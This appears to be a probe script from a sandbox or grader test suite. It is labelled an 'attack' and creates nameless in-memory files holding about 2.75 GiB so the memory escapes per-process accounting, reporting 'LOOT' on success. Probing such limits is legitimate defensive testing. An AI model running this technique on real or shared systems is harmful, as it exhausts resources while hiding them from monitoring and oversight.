# attack: fills files without names in memory and never maps them: no process seems to hold what they hold
# exercise: ex01_map_dataset
# check: ex01.tabular.len
# slow: gigabytes take seconds
import os
import time

kept, megabytes = [], 0
chunk = b"x" * (4 << 20)
print("TRIED", flush=True)
try:
    for _ in range(44):  # bounded: 2.75 GiB
        kept.append(os.memfd_create("x"))
        for _ in range(16):
            megabytes += os.write(kept[-1], chunk) >> 20
except OSError as error:
    print(error)
time.sleep(0.5)
print("LOOT: held" if megabytes > 2400 else "held", megabytes, "MiB that nobody sees")
